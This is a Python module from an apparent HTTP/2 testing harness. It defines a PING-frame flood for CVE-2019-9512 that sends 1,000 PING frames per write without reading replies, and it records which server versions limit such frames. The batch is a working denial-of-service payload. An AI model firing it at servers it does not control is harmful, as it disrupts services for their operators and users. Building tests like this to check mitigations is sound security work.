"""Ping flood (CVE-2019-9512): PING frames without end and never reading, so a server that queues
every PING ACK grows its send queue (RFC 9113 section 6.7; section 10.5 on limiting such frames)."""
from hyperframe.frame import PingFrame

from h2grid.attacks.base import Attack, Fix

FRAMES = 1000
BATCH = PingFrame(0, opaque_data=b"h2grid!!").serialize() * FRAMES

def exercised(sent: dict) -> str:
    return "" if sent["received"].get("PING") else "the server acknowledged no PING"


ATTACK = Attack(
    key="ping-flood", title="Ping flood", cve="CVE-2019-9512", rfc="RFC 9113 section 6.7, section 10.5",
    sends=f"PING frames, {FRAMES} per write, never reading the ACKs", batch=lambda conn: BATCH, reads=False,
    exercised=exercised,
    fixes=(Fix("gunicorn", "27.0.1", "at most 1,000 PING, SETTINGS and empty DATA frames per 10 s a connection, then GOAWAY ENHANCE_YOUR_CALM "
                                     "(gunicorn/http2/connection.py and async_connection.py CONTROL_FRAME_RATE_LIMIT; the installed release, earlier ones not checked)"),
           Fix("twisted", "19.7.0", "buffered control frames bounded (17 KiB), then the connection is closed "
                                    "(twisted#9694: CVE-2019-9512, 9514, 9515)"),
           Fix("go", "go1.12.8", "the server closes a connection whose queue of control frames grows "
                                 "(CVE-2019-9512, golang/go#33606; go1.11.13)"),
           Fix("hypercorn", "", "no limit of its own; ACKs are written as h2 queues them")),
)
